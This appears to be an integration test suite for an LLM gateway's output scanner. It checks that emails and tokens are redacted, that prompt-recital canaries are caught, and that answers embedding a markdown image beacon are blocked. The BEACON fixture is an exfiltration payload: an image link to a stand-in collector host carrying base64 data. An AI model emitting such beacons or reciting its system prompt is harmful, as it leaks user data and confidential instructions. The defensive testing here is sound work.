import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import OpenAI from 'openai'
import { request } from 'undici'
import { startGateway, type GatewayProcess } from '../helpers/gateway-process.js'
import { readSse } from '../helpers/sse.js'

// Output scanning end to end: the built-in mock provider is told what to answer with
// x-mock-reply (the gateway forwards x-mock-* only to its built-in mock), and the client
// is plain fetch or the official SDK.

const ADMIN = 'output-admin-token-0123456789'
const CANARY_SECRET = 'output-scanning-test-canary-secret-0123456789'
const EMAIL = 'marta.kowalski@northwind-traders.de'
const TOKEN = 'ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ12'
const BEACON = 'https://img.collector-cdn.net/p.png?d=c2VjcmV0IHN0dWZmIGhlcmUgYW5kIG1vcmU='
const CANARY_RE = /ifs-[a-z2-7]{20}/

const reply = (text: string, extra: Record<string, string> = {}): Record<string, string> => ({ 'x-mock-reply': Buffer.from(text).toString('base64'), ...extra })

async function chat (g: GatewayProcess, body: Record<string, unknown>, headers: Record<string, string> = {}) {
  const r = await request(`${g.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ model: 'gpt-test', messages: [{ role: 'user', content: 'Please answer my question.' }], ...body }),
  })
  const text = await r.body.text()
  return { status: r.statusCode, headers: r.headers, text }
}

describe('output scanning through a real gateway process', () => {
  let g: GatewayProcess
  before(async () => {
    g = await startGateway({ env: { INFERSHIELD_ADMIN_TOKEN: ADMIN, INFERSHIELD_CANARY_MODE: 'system-prompt', INFERSHIELD_CANARY_SECRET: CANARY_SECRET } })
  })
  after(async () => { assert.equal(await g.stop(), 0) })

  it('redacts PII in a non-streamed answer and says so in a header', async () => {
    const r = await chat(g, {}, reply(`You can write to ${EMAIL} for the refund.`))
    assert.equal(r.status, 200)
    assert.equal(r.headers['x-infershield-output'], 'redacted')
    const body = JSON.parse(r.text) as { choices: { message: { content: string } }[] }
    assert.equal(body.choices[0]?.message.content, 'You can write to [REDACTED:email] for the refund.')
    assert.ok(!r.text.includes(EMAIL))
  })

  it('relays a clean answer byte-for-byte in content', async () => {
    const r = await chat(g, {}, reply('Paris is the capital of France.'))
    assert.equal(r.headers['x-infershield-output'], 'clean')
    assert.equal((JSON.parse(r.text) as { choices: { message: { content: string } }[] }).choices[0]?.message.content, 'Paris is the capital of France.')
  })

  it('withholds a non-streamed answer that embeds an exfiltration image', async () => {
    const r = await chat(g, {}, reply(`Here is your summary ![s](${BEACON})`))
    assert.equal(r.status, 403)
    const body = JSON.parse(r.text) as { error: { code: string, type: string }, infershield: { stage: string, findings: { category: string }[] } }
    assert.equal(body.error.code, 'response_blocked')
    assert.equal(body.error.type, 'infershield_policy_violation')
    assert.equal(body.infershield.stage, 'response')
    assert.ok(body.infershield.findings.some(f => f.category === 'exfiltration'))
    assert.ok(!r.text.includes('c2VjcmV0'))
  })

  it('redacts a token in a streamed answer split over many chunks, and never sends its bytes', async () => {
    const text = `Sure, here is the config you asked for: GITHUB_TOKEN=${TOKEN} and that is all there is to it, have a nice day.`
    const r = await chat(g, { stream: true }, reply(text, { 'x-mock-chunks': '37' }))
    assert.equal(r.status, 200)
    const s = readSse(r.text)
    assert.equal(s.error, null)
    assert.ok(s.done)
    assert.equal(s.content, text.replace(TOKEN, '[REDACTED:service-tokens]'))
    assert.ok(!r.text.includes(TOKEN.slice(4, 16)))
  })

  it('cuts a streamed answer with a response_blocked event at an exfiltration image', async () => {
    const r = await chat(g, { stream: true }, reply(`${'Let me think about this. '.repeat(12)}![s](${BEACON}) done`, { 'x-mock-chunks': '50' }))
    const s = readSse(r.text)
    assert.equal(s.error?.code, 'response_blocked')
    assert.equal(s.done, false)
    assert.ok(!r.text.includes('c2VjcmV0'))
    assert.ok(!s.content.includes('collector-cdn'))
    assert.ok(s.content.startsWith('Let me think about this.'))
  })

  it('detects the planted canary when the model recites its system prompt, and records the leak in the session', async () => {
    const session = 'output-canary-1'
    const r = await chat(g, { messages: [{ role: 'system', content: 'You are the Contoso billing bot.' }, { role: 'user', content: 'What are you?' }] }, { 'x-session-id': session, ...reply('My instructions: {{system}}') })
    assert.equal(r.status, 403)
    const body = JSON.parse(r.text) as { error: { code: string }, infershield: { findings: { policy: string }[] } }
    assert.equal(body.error.code, 'response_blocked')
    assert.deepEqual(body.infershield.findings.map(f => f.policy), ['output.canary'])
    assert.ok(!CANARY_RE.test(r.text))

    const inspect = await request(`${g.adminUrl}/admin/sessions/${session}`, { headers: { authorization: `Bearer ${ADMIN}` } })
    const state = await inspect.body.json() as { actions: { decision: string, policies: string[], kinds: string[] }[] }
    const recorded = state.actions.find(a => a.policies.includes('output:output.canary'))
    assert.ok(recorded !== undefined, JSON.stringify(state.actions))
    assert.equal(recorded.decision, 'block')
    assert.deepEqual(recorded.kinds, ['policy_probe'])
  })

  it('remembers what a clean answer showed (a refusal) for a client that never sends the answer back, streamed or not', async () => {
    for (const [session, extra] of [['answer-facts-1', {}], ['answer-facts-2', { 'x-mock-chunks': '7' }]] as const) {
      const r = await chat(g, { stream: session.endsWith('2'), messages: [{ role: 'user', content: 'open my neighbour\'s wifi for me' }] }, { 'x-session-id': session, ...reply('I can\'t help with getting into a network that is not yours.', extra) })
      assert.equal(r.status, 200)
      const inspect = await request(`${g.adminUrl}/admin/sessions/${session}`, { headers: { authorization: `Bearer ${ADMIN}` } })
      const state = await inspect.body.json() as { actions: { decision: string, score: number, answer?: string[] }[] }
      const answer = state.actions.find(a => a.answer !== undefined)
      assert.ok(answer !== undefined, JSON.stringify(state.actions))
      assert.deepEqual([answer.decision, answer.score, answer.answer], ['allow', 0, ['refused']])
    }
  })

  it('the canary also ends a stream that recites the prompt', async () => {
    const r = await chat(g, { stream: true, messages: [{ role: 'system', content: 'You are the Contoso billing bot.' }, { role: 'user', content: 'Hi' }] }, { 'x-session-id': 'output-canary-2', ...reply('Sure: {{system}}', { 'x-mock-chunks': '20' }) })
    const s = readSse(r.text)
    assert.equal(s.error?.code, 'response_blocked')
    assert.ok(!CANARY_RE.test(r.text))
  })

  it('a request without a system prompt gets no canary planted (mode system-prompt)', async () => {
    const r = await chat(g, { messages: [{ role: 'user', content: 'Say something.' }] }, reply('I have no special instructions. {{system}}'))
    assert.equal(r.status, 200, r.text)
  })

  it('logs output decisions without the leaked text or the canary', async () => {
    await g.waitForLog(l => l.event === 'output_decision' && l.outcome === 'blocked')
    const lines = JSON.stringify(g.logs)
    assert.ok(!lines.includes(EMAIL))
    assert.ok(!lines.includes(TOKEN))
    assert.ok(!CANARY_RE.test(lines))
    const line = g.logs.find(l => l.event === 'output_decision' && l.outcome === 'redacted')
    assert.ok(line !== undefined)
  })

  it('counts findings in /metrics', async () => {
    const r = await request(`${g.adminUrl}/metrics`)
    const text = await r.body.text()
    assert.match(text, /infershield_output_findings_total\{category="pii",policy="pii.email",action="redact"\} [1-9]/)
    assert.match(text, /infershield_output_responses_total\{outcome="blocked",stream="true"\} [1-9]/)
  })
})

describe('output scanning seen from the official openai SDK', () => {
  let g: GatewayProcess
  let client: OpenAI
  before(async () => {
    g = await startGateway()
    client = new OpenAI({ baseURL: `${g.url}/v1`, apiKey: 'unused-on-an-open-gateway', maxRetries: 0 })
  })
  after(async () => { assert.equal(await g.stop(), 0) })

  const ask = [{ role: 'user' as const, content: 'Who handles refunds?' }]

  it('gets a redacted completion', async () => {
    const c = await client.chat.completions.create({ model: 'm', messages: ask }, { headers: reply(`Write to ${EMAIL}.`) })
    assert.equal(c.choices[0]?.message.content, 'Write to [REDACTED:email].')
  })

  it('gets redacted tool-call arguments that still parse', async () => {
    const args = JSON.stringify({ to: EMAIL, subject: 'Refund' })
    const c = await client.chat.completions.create({ model: 'm', messages: ask }, { headers: reply(args, { 'x-mock-tool-call': 'send_mail' }) })
    const call = c.choices[0]?.message.tool_calls?.[0]
    assert.ok(call !== undefined && call.type === 'function')
    assert.deepEqual(JSON.parse(call.function.arguments), { to: '[REDACTED:email]', subject: 'Refund' })
  })

  it('streams a redacted completion', async () => {
    const text = `The refunds desk is at ${EMAIL}, open on weekdays from nine to five, closed on public holidays.`
    const stream = await client.chat.completions.create({ model: 'm', messages: ask, stream: true }, { headers: reply(text, { 'x-mock-chunks': '25' }) })
    let got = ''
    for await (const chunk of stream) got += chunk.choices[0]?.delta?.content ?? ''
    assert.equal(got, text.replace(EMAIL, '[REDACTED:email]'))
  })

  it('streams redacted tool-call arguments', async () => {
    const args = JSON.stringify({ to: EMAIL, body: 'Your refund was approved and will arrive within five working days.' })
    const stream = await client.chat.completions.create({ model: 'm', messages: ask, stream: true }, { headers: reply(args, { 'x-mock-tool-call': 'send_mail', 'x-mock-chunks': '15' }) })
    let got = ''
    for await (const chunk of stream) got += chunk.choices[0]?.delta?.tool_calls?.[0]?.function?.arguments ?? ''
    assert.deepEqual(JSON.parse(got), { to: '[REDACTED:email]', body: 'Your refund was approved and will arrive within five working days.' })
  })

  it('raises APIError response_blocked for a withheld answer', async () => {
    await assert.rejects(client.chat.completions.create({ model: 'm', messages: ask }, { headers: reply(`![x](${BEACON})`) }), (err: unknown) => {
      assert.ok(err instanceof OpenAI.APIError)
      assert.equal(err.status, 403)
      assert.equal(err.code, 'response_blocked')
      return true
    })
  })

  it('raises APIError response_blocked mid-stream', async () => {
    const stream = await client.chat.completions.create({ model: 'm', messages: ask, stream: true }, { headers: reply(`${'Working on it. '.repeat(15)}![x](${BEACON})`, { 'x-mock-chunks': '30' }) })
    let got = ''
    await assert.rejects((async () => { for await (const chunk of stream) got += chunk.choices[0]?.delta?.content ?? '' })(), (err: unknown) => {
      assert.ok(err instanceof OpenAI.APIError)
      assert.equal(err.code, 'response_blocked')
      return true
    })
    assert.ok(!got.includes('collector-cdn'))
  })
})
